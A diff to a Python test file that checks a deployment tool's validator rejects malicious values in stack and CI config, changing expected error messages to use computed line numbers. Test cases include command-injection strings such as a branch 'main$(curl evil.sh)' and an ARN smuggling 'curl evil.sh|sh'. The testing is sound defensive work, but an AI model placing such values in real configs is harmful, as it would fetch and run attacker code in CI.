@@ -193,21 +193,21 @@ def test_a_stack_file_name_with_a_command_is_refused(
             "platform/acme/integrations/order-api.yaml",
             "branch: release/1.2",
             "branch: 'main$(curl evil.sh)'",
-            "platform/acme/integrations/order-api.yaml:6 pdp:platform.integrations[2].track."
+            "platform/acme/integrations/order-api.yaml:{line} pdp:platform.integrations[2].track."
             "branch: is not a git branch name",
         ),
         (
             "stacks/Pulumi.acme-aws-prod.yaml",
             "assumeRoleArn: arn:aws:iam::210987654321:role/pdpkit-deployer",
             "assumeRoleArn: 'arn:aws:iam::210987654321:role/x\";curl evil.sh|sh;\"'",
-            "stacks/Pulumi.acme-aws-prod.yaml:83 pdp:dataplane.aws.assumeRoleArn: "
+            "stacks/Pulumi.acme-aws-prod.yaml:{line} pdp:dataplane.aws.assumeRoleArn: "
             "is not an IAM role ARN",
         ),
         (
             "stacks/Pulumi.acme-aws-prod.yaml",
             "runsOn: [self-hosted, linux, acme-aws-prod]",
             "runsOn: [self-hosted, 'linux${{ secrets.X }}']",
-            "stacks/Pulumi.acme-aws-prod.yaml:72 pdp:dataplane.ci.runsOn[1]: is not a runner label",
+            "stacks/Pulumi.acme-aws-prod.yaml:{line} pdp:dataplane.ci.runsOn[1]: is not a runner label",
         ),
     ],
 )
@@ -219,8 +219,10 @@ def test_other_values_that_reach_workflows_follow_their_grammar(
 ) -> None:
     file, old, new, message = case
     root = _project(tmp_path)
+    lines = (root / file).read_text(encoding="utf-8").splitlines()
+    line = next(n for n, text in enumerate(lines, 1) if old in text)  # located at the edit
     _edit(root / file, old, new)
-    assert message in _validate_and_generate(root, monkeypatch, capsys)
+    assert message.format(line=line) in _validate_and_generate(root, monkeypatch, capsys)
 
 
 def _hostile_specs(stacks: list[tuple[str, StackSpec]]) -> Iterator[list[tuple[str, StackSpec]]]:
